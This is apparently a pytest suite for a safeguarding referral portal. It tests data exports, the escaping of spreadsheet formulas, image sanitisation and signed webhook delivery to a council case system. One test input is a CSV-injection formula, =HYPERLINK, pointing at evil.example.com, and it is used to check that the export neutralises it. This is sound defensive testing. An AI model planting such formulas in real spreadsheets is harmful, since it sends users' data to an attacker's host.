"""What leaves for the council's case system: files that staff export, and calls that the server makes by itself."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import queue
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image

from server_stub.exports import safe
from tests.support.desk_person import DeskPerson, staff_at
from tests.support.referrer import a_concern, attachment, client_of, register
from tests.support.server_process import ServerProcess

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    import httpx

    from tests.support.referrer import Referrer

SECRET = "a secret between two machines, long"


@pytest.fixture(scope="module")
def jo(server: ServerProcess) -> Iterator[DeskPerson]:
    yield from staff_at(server, "jo@example.gov.uk")


def cells(page: httpx.Response) -> list[dict[str, str]]:
    assert page.status_code == 200, page.text
    return list(csv.DictReader(io.StringIO(page.content.decode("utf-8-sig"))))


def test_a_submission_goes_out_as_csv_with_codes_and_without_formulas(jo: DeskPerson, referrer: Referrer) -> None:
    danger = '=HYPERLINK("https://evil.example.com?"&A1,"x")'
    body = a_concern(concerns__worried=(danger,), child__last_name=('Kestrel, "Rob"',))
    reference = referrer.submit(body).json()["reference"]
    rows = {row["link_id"]: row for row in cells(jo.get(f"/desk/submissions/{body['submission_id']}/export.csv"))}
    assert rows["concerns.worried"]["answer"] == "'" + danger
    assert rows["child.last-name"]["answer"] == 'Kestrel, "Rob"'
    assert {row["reference"] for row in rows.values()} == {reference}
    born = rows["child.dob"]
    assert (born["value"], born["answer"], born["section"]) == (
        "2021-03-04",
        "4 March 2021",
        "Child / young person's details",
    )
    ethnic = next(row for row in rows.values() if row["system"].endswith("/dfe-ethnicity"))
    assert (ethnic["code"], ethnic["answer"]) == ("WBRI", "White British")
    assert jo.get(f"/desk/submissions/{body['submission_id']}/export.xlsx").status_code == 404


@pytest.mark.sqlite_only
@pytest.mark.parametrize("cell", ["=1+1", "+44", "-1", "@x", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1", "|x", "\n=1"])  # noqa: RUF001
def test_no_cell_begins_as_a_formula(cell: str) -> None:
    assert safe(cell) == f"'{cell}"
    assert safe(f"a{cell}") == f"a{cell}"


@pytest.mark.sqlite_only
def test_a_submission_goes_out_as_json_and_as_pdf(jo: DeskPerson, referrer: Referrer, tmp_path: Path) -> None:
    body = a_concern(concerns__worried=("Came to school <b>upset</b>.",))
    receipt = referrer.submit(body).json()
    later = a_concern(submission_id=body["submission_id"], concerns__worried=("Came to school <b>crying</b>.",))
    referrer.submit({**later, "version": 2}, if_match=receipt["etag"])
    base = f"/desk/submissions/{body['submission_id']}"
    content = jo.get(f"{base}/export.json", version=1).json()
    assert content["response"] == body["response"], "the answers exactly as they came"
    assert (content["reference"], content["digest"]) == (receipt["reference"], receipt["digest"])
    assert referrer.email not in json.dumps(content)
    words = _text(jo.get(f"{base}/export.pdf"), tmp_path)
    assert "Came to school <b>crying</b>." in words
    assert receipt["reference"] in words
    changed = _text(jo.get(f"{base}/changes.pdf"), tmp_path)
    assert "upset" in changed
    assert "crying" in changed
    assert jo.get(f"{base}/changes.pdf", version=1).status_code == 404
    acts = jo.get(base, show="history").text
    assert acts.count("exported version") == 3


def test_all_of_a_view_goes_out_and_each_submission_is_recorded(jo: DeskPerson, referrer: Referrer) -> None:
    sent = {}
    for number in range(3):
        body = a_concern(overview__danger_now=(True,), child__first_name=(f"Child{number}",))
        sent[referrer.submit(body).json()["reference"]] = body
    lines = [json.loads(line) for line in jo.get("/desk/export.jsonl", urgency="0").text.splitlines()]
    found = {line["reference"]: line["response"] for line in lines}
    assert {reference: found[reference] for reference in sent} == {key: one["response"] for key, one in sent.items()}
    rows = cells(jo.get("/desk/export.csv", urgency="0"))
    assert set(sent) <= {row["reference"] for row in rows}
    first = next(iter(sent.values()))["submission_id"]
    assert jo.get(f"/desk/submissions/{first}", show="history").text.count("exported version 1") == 2


@pytest.mark.sqlite_only
def test_pictures_are_drawn_anew_and_documents_only_go_down(jo: DeskPerson, referrer: Referrer) -> None:
    taken = Image.new("RGB", (40, 20), "red")
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "A camera in Wigan"
    content = io.BytesIO()
    taken.save(content, "JPEG", exif=exif, comment=b"53.5N 2.6W")
    photo = content.getvalue() + b"<script>hidden</script>"
    damaged = b"\xff\xd8\xff" + b"not a picture at all" * 20
    letter = b"%PDF-1.7\nA letter\n"
    files = [attachment(photo, "Photo", "image/jpeg"), attachment(letter), attachment(damaged, "Bad", "image/jpeg")]
    for bytes_ in (photo, letter, damaged):
        referrer.upload(bytes_)
    body = a_concern(files)
    assert referrer.submit(body).status_code == 201
    base = f"/desk/submissions/{body['submission_id']}/versions/1/files"
    for path in (f"{base}/0", f"{base}/0/picture"):
        shown = jo.get(path)
        assert shown.headers["Content-Type"] == "image/jpeg"
        with Image.open(io.BytesIO(shown.content)) as drawn:
            assert drawn.size == (20, 40), "turned upright"
            assert dict(drawn.getexif()) == {}
        assert not any(word in shown.content for word in (b"Wigan", b"53.5N", b"script"))
    assert "Content-Disposition" not in jo.get(f"{base}/0/picture").headers
    for position, kind in ((1, "application/pdf"), (2, "application/octet-stream")):
        down = jo.get(f"{base}/{position}")
        assert down.headers["Content-Type"] == kind
        assert down.headers["Content-Disposition"].startswith("attachment;")
        assert "sandbox" in down.headers["Content-Security-Policy"]
        assert jo.get(f"{base}/{position}/picture").status_code == 404
    assert jo.get(f"{base}/1/look").status_code == 404


def _text(answer: httpx.Response, folder: Path) -> str:
    assert answer.headers["Content-Type"] == "application/pdf", answer.text
    file = folder / "paper.pdf"
    file.write_bytes(answer.content)
    return subprocess.run(["pdftotext", file, "-"], capture_output=True, text=True, check=True).stdout  # noqa: S607


class CaseSystem:
    """The council's own system: keeps what it is told, and answers as it is bidden."""

    def __init__(self, *statuses: int) -> None:
        self.told: queue.Queue[tuple[dict[str, str], bytes]] = queue.Queue()
        left = list(statuses)
        told = self.told

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                told.put((dict(self.headers), body))
                status = left.pop(0) if left else 204
                self.send_response(status)
                self.send_header("Location", "/elsewhere")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *_words: Any) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_port}/cases?from=portal"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def next(self) -> tuple[dict[str, str], dict[str, Any]]:
        """Wait for the next call; its signature has to be right."""
        headers, body = self.told.get(timeout=90)
        stamp, _, signed = headers["Portal-Signature"].partition(",v1=")
        seconds = stamp.removeprefix("t=")
        made = hmac.new(SECRET.encode(), f"{seconds}.".encode() + body, hashlib.sha256).hexdigest()
        assert hmac.compare_digest(made, signed)
        assert abs(int(seconds) - time.time()) < 300  # noqa: TID251 (the receiver's own clock)
        content: dict[str, Any] = json.loads(body)
        return headers, content

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=10)


@pytest.mark.sqlite_only
def test_the_case_system_is_told_signed_and_again_until_it_has_taken_it(database: str, tmp_path: Path) -> None:
    cases = CaseSystem(307, 503)
    env = {"PORTAL_LIMIT_FACTOR": "100", "PORTAL_HOOK": cases.url, "PORTAL_HOOK_SECRET": SECRET}
    server = ServerProcess(tmp_path / "data", env=env)
    with client_of(server) as http:
        body = a_concern()
        reference = register(server, http).submit(body).json()["reference"]
        attempts = [cases.next() for _ in range(3)]
        assert len({headers["Portal-Delivery"] for headers, _ in attempts}) == 1
        told = attempts[-1][1]
        assert (told["event"], told["reference"], told["state"]) == ("received", reference, "received")
        assert "Kestrel" not in json.dumps(told)
        for jo in staff_at(server, "jo@example.gov.uk"):
            assert jo.act(body["submission_id"], "close", outcome="advice").status_code == 303
        assert cases.next()[1]["state"] == "closed"
    assert server.stop() == 0
    cases.stop()


@pytest.mark.sqlite_only
@pytest.mark.parametrize(
    ("env", "sentence"),
    [
        ({"PORTAL_HOOK": "http://cases.example.gov.uk", "PORTAL_HOOK_SECRET": SECRET}, "https://"),
        ({"PORTAL_HOOK": "https://cases.example.gov.uk", "PORTAL_HOOK_SECRET": "short"}, "32 characters"),
        (
            {"PORTAL_HOOK": "https://cases.example.gov.uk", "PORTAL_HOOK_SECRET": SECRET, "PORTAL_HOOK_CONTENT": "x"},
            "reference or whole",
        ),
    ],
)
def test_a_call_without_secret_or_in_clear_is_refused_at_start(
    tmp_path: Path, env: dict[str, str], sentence: str
) -> None:
    with pytest.raises(RuntimeError, match=sentence):
        ServerProcess(tmp_path / "data", env=env)
